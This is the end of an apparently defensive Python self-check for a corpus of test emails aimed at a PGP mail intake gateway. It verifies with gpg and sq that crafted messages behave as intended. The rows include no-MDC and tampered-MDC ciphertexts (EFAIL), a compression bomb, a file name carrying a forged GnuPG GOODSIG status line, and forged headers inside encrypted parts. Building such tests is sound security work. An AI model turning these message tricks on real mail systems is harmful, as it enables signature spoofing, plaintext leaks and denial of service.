            return cp.returncode, cp.stderr.decode("utf-8", "replace")
        finally:
            shutil.rmtree(d)

    def verify_inline(self, text):
        cp = self.tgpg("--verify", data=text, home=self.keys_home)
        return cp.returncode, cp.stderr.decode("utf-8", "replace")

    def status(self, text, word):
        return re.findall(rf"^\[GNUPG:\] {word}\b.*$", text, re.M)

    def check(self, c):
        """Returns a list of problems (empty = the message is what it claims)."""
        p = []
        raw = c.raw
        e = c.expect
        if b"\n" in raw.replace(b"\r\n", b""):
            p.append("bare LF in message")
        if b"\r" in raw.replace(b"\r\n", b""):
            p.append("bare CR in message")
        head, _, _ = raw.partition(b"\r\n\r\n")
        if c.token.encode() not in head:
            p.append("token not in headers")
        ctype = re.search(rb"(?im)^Content-Type:\s*([a-z]+/[a-z0-9-]+)", head).group(1).lower()
        for n in c.never:
            if n.encode() in raw:
                p.append("a 'never' plaintext is in the message in clear")
        if c.row in ("many_pkesk", "double_encrypted", "concatenated_armor"):
            full = split_multipart(raw)[1][1].partition(b"\r\n\r\n")[2]
            t = time.monotonic()
            rc, out, st = self.decrypt(full)
            took = time.monotonic() - t
            if c.row == "many_pkesk":
                # rc is 2 (the garbage PKESKs failed) but the message decrypts
                if not self.status(st, "DECRYPTION_OKAY") or c.secret.encode() not in out:
                    p.append(f"many_pkesk does not decrypt with gpg: {st[-300:]}")
                self.notes.append(f"many_pkesk: gpg --decrypt took {took:.1f}s")
            if c.row == "double_encrypted" and c.never[0].encode() in out:
                p.append("double_encrypted: inner plaintext visible after one layer")
            if c.row == "concatenated_armor":
                self.notes.append(f"concatenated_armor: gpg --decrypt rc={rc}, first secret "
                                  f"{'in' if c.ciphertext and b'SECRET-cat1' in out else 'not in'}"
                                  f" output, second {'in' if c.never[0].encode() in out else 'not in'}")
        if c.ciphertext is not None:
            rc, out, st = self.decrypt(c.ciphertext)
            dec = bool(self.status(st, "DECRYPTION_OKAY"))
            if e["encryption"] == "decrypted" or c.row in ("wrapped_encrypted",
                                                            "two_encrypted_siblings",
                                                            "encrypted_in_rfc822",
                                                            "inline_encrypted_not_root"):
                if rc != 0 or not dec:
                    p.append(f"ciphertext does not decrypt cleanly: rc={rc} {st[-400:]}")
                if c.secret and c.secret.encode() not in out:
                    p.append("secret not in plaintext")
            if c.row in ("no_mdc", "no_mdc_inline"):
                tags = [x.tag for x in packets(dearmor(c.ciphertext))]
                if 9 not in tags or 18 in tags:
                    p.append(f"not a SED-only message: tags {tags}")
                if rc == 0 or dec:
                    p.append("gpg accepted the no-MDC message")
                if not self.status(st, "DECRYPTION_FAILED"):
                    p.append("no DECRYPTION_FAILED status for no-MDC")
            if c.row.startswith("bad_mdc"):
                if rc == 0 or dec:
                    p.append("gpg accepted the tampered MDC")
                if not (self.status(st, "DECRYPTION_FAILED") or "BADMDC" in st):
                    p.append(f"no MDC failure status: {st[-300:]}")
                if c.secret.encode() not in out:
                    p.append("gpg did not write the plaintext before the MDC failure "
                             "(the EFAIL precondition this row tests)")
            if c.row == "compression_bomb":
                if len(out) <= MAX_PLAINTEXT:
                    p.append(f"bomb inflates to only {len(out)} bytes")
                if len(raw) > 10_000_000:
                    p.append(f"bomb message {len(raw)} bytes > message_size limit")
            if c.row == "literal_filename_status":
                if not self.status(st, "PLAINTEXT"):
                    p.append("no PLAINTEXT status")
                if self.status(st, "GOODSIG"):
                    p.append("gpg 2.2.40 itself emitted a GOODSIG line for the file name")
                lit = self._literal_name(c.ciphertext)
                if lit is None or b"[GNUPG:] GOODSIG" not in lit:
                    p.append(f"file name lacks the forged status line: {lit!r}")
            want_sig = e["signature"]
            if e["encryption"] == "decrypted" and want_sig == "good" and c.filed_ct == "text/plain":
                if not self.status(st, "GOODSIG"):
                    p.append("signed+encrypted: no GOODSIG")
            if e["encryption"] == "decrypted" and c.filed_ct == "multipart/signed":
                _, parts = split_multipart(out)
                _, st2 = self.verify_detached(parts[0], parts[1].partition(b"\r\n\r\n")[2])
                if not self.status(st2, "GOODSIG"):
                    p.append(f"inner multipart/signed does not verify: {st2[-300:]}")
            if c.forged and c.row == "forged_headers_encrypted" and b"X-Csirtgw-Signature: good" not in out:
                p.append("forged header not inside the plaintext")
        if ctype == b"multipart/signed":
            _, parts = split_multipart(raw)
            sig = parts[1].partition(b"\r\n\r\n")[2]
            rc, st = self.verify_detached(parts[0], sig)
            goods, bads = self.status(st, "GOODSIG"), self.status(st, "BADSIG")
            errs, exps = self.status(st, "ERRSIG"), self.status(st, "EXPKEYSIG")
            revs = self.status(st, "REVKEYSIG")
            want = e["signature"]
            if isinstance(want, tuple):
                want = want[0]
            m = re.search(rb'(?i)micalg="?([a-z0-9,-]+)', head)
            mic = m.group(1).decode().lower() if m else None
            if mic != micalg(sig):
                p.append(f"micalg {mic} != {micalg(sig)}")
            if c.row.startswith("mixed"):
                if c.row == "mixed_good_unknown":
                    if not (len(goods) == 1 and len(errs) == 1):
                        p.append(f"want 1 GOODSIG + 1 ERRSIG: {st[-500:]}")
                elif not (len(goods) == 1 and len(bads) == 1):
                    p.append(f"want 1 GOODSIG + 1 BADSIG: {st[-500:]}")
            elif want == "good" and len(goods) != 1:
                p.append(f"want GOODSIG: {st[-400:]}")
            elif want == "bad" and (len(bads) != 1 or goods):
                p.append(f"want BADSIG: {st[-400:]}")
            elif want == "unknown-key" and (not errs or goods):
                p.append(f"want ERRSIG (no key): {st[-400:]}")
            elif want == "expired" and len(exps) != 1:
                p.append(f"want EXPKEYSIG: {st[-400:]}")
            elif want == "revoked" and len(revs) != 1:
                p.append(f"want REVKEYSIG: {st[-400:]}")
        if ctype in (b"multipart/mixed", b"multipart/related") and e["signature"] == "partial":
            _, parts = split_multipart(raw)
            signed = [x for x in parts if b"multipart/signed" in x.partition(b"\r\n\r\n")[0]]
            if len(signed) != 1:
                p.append("partial: no multipart/signed part")
            else:
                _, sp = split_multipart(signed[0])
                rc, st = self.verify_detached(sp[0], sp[1].partition(b"\r\n\r\n")[2])
                if not self.status(st, "GOODSIG"):
                    p.append(f"partial: signed part does not verify: {st[-300:]}")
        if c.row.startswith("inline_clearsigned") or c.row in ("partial_inline_before",
                                                               "partial_inline_after",
                                                               "tampered_clearsigned",
                                                               "inline_two_clearsigned"):
            body = raw.partition(b"\r\n\r\n")[2]
            if re.search(rb"(?im)^Content-Transfer-Encoding:\s*quoted-printable", head):
                import quopri
                body = crlf(quopri.decodestring(body))
            rc, st = self.verify_inline(body)
            want = "bad" if c.row == "tampered_clearsigned" else "good"
            if want == "good" and not self.status(st, "GOODSIG") and c.row != "inline_two_clearsigned":
                p.append(f"clearsigned does not verify: {st[-300:]}")
            if c.row == "inline_two_clearsigned":
                # gpg 2.2 refuses two blocks in one input ("multiple plaintexts seen"):
                # each block on its own must verify
                blocks = body.split(b"-----BEGIN PGP SIGNED MESSAGE-----")[1:]
                for bl in blocks:
                    rc, st = self.verify_inline(b"-----BEGIN PGP SIGNED MESSAGE-----" + bl)
                    if len(self.status(st, "GOODSIG")) != 1:
                        p.append(f"block does not verify alone: {st[-300:]}")
                if len(blocks) != 2:
                    p.append("want two blocks")
            if want == "bad" and not self.status(st, "BADSIG"):
                p.append(f"tampered clearsigned not BADSIG: {st[-300:]}")
        if c.variant in ("sq", "sqrsa") and e["signature"] == "good":
            # and the same with sq itself, for the sq-made variants
            p += self._sq_check(c)
        return p

    def _literal_name(self, armored):
        cp = self.tgpg("--list-packets", data=armored)
        m = re.search(rb'name="(.*?)",?\n', cp.stdout, re.S)
        if not m:
            return None
        return m.group(1).replace(b"\\n", b"\n").replace(b"\\x0a", b"\n")

    def _sq_check(self, c):
        """Cross-check an sq-made good signature with sq verify."""
        sqk = self.keys[c.variant]
        raw = c.raw
        if c.row == "mime_signed":
            _, parts = split_multipart(raw)
            d = tempfile.mkdtemp(dir=self.keys.workdir)
            try:
                sigf = os.path.join(d, "s")
                with open(sigf, "wb") as f:
                    f.write(parts[1].partition(b"\r\n\r\n")[2])
                cp = run([SQ, "verify", "--detached", sigf, "--signer-cert", sqk.certfile],
                         data=parts[0], check=False)
            finally:
                shutil.rmtree(d)
            if cp.returncode != 0:
                return [f"sq verify failed: {cp.stderr.decode()[-300:]}"]
        if c.row == "inline_clearsigned":
            body = raw.partition(b"\r\n\r\n")[2]
            cp = run([SQ, "verify", "--signer-cert", sqk.certfile], data=body, check=False)
            if cp.returncode != 0:
                return [f"sq verify (cleartext) failed: {cp.stderr.decode()[-300:]}"]
        return []


def selfcheck(keep=False, out=print, workdir=None):
    """Build keys, a stand-in team key and the whole corpus, check every message
    with gpg/sq.  Returns {case name: [problems]} (empty lists = all good)."""
    work = workdir or own_tmpdir("csirtgw-pgp-corpus-")
    t0 = time.monotonic()
    keys = make_keys(work)
    t1 = time.monotonic()
    # a stand-in for the daemon's team key
    team_home = new_homedir(work, "team")
    tb = [GPG, "--homedir", team_home, "--batch", "--no-tty", "--quiet",
          "--pinentry-mode", "loopback", "--passphrase", ""]
    run(tb + ["--quick-gen-key", f"Example CERT <{INTAKE}>", "future-default", "default", "never"])
    team_pub = run(tb + ["--export", "--armor"]).stdout
    keys.import_team(team_pub)
    # like the daemon's home: team secret key + every registered public key
    for name, k, pub, email in keys.registered():
        if name != "removed":               # the test removes it again
            run(tb + ["--import"], data=pub)
    t2 = time.monotonic()
    cases = build_corpus(keys)
    t3 = time.monotonic()
    out(f"keys {t1 - t0:.1f}s, team+import {t2 - t1:.1f}s, corpus {t3 - t2:.1f}s: "
        f"{len(cases)} messages, {sum(len(c.raw) for c in cases) >> 10} KiB")
    sc = SelfCheck(keys, team_home, team_home)
    with concurrent.futures.ThreadPoolExecutor(max_workers=2) as ex:
        results = list(ex.map(sc.check, cases))
    for c, probs in zip(cases, results):
        out(f"{'ok ' if not probs else 'BAD'} {c.name:45s} {len(c.raw):8d} B  expect {c.expect}")
        for pr in probs:
            out(f"      - {pr}")
    for n in sc.notes:
        out("note: " + n)
    bad = sum(bool(p) for p in results)
    out(f"selfcheck {time.monotonic() - t3:.1f}s; {bad} problem message(s)")
    if keep:
        d = os.path.join(work, "messages")
        os.makedirs(d)
        for c in cases:
            with open(os.path.join(d, c.name + ".eml"), "wb") as f:
                f.write(c.raw)
        if work in _own_tmp:
            _own_tmp.remove(work)
        out(f"messages kept in {d}")
    for k in keys.all():
        k.kill_agent()
    run(["gpgconf", "--homedir", team_home, "--kill", "all"], check=False)
    return {c.name: probs for c, probs in zip(cases, results)}


if __name__ == "__main__":
    res = selfcheck(keep="--keep" in sys.argv)
    sys.exit(1 if any(res.values()) else 0)
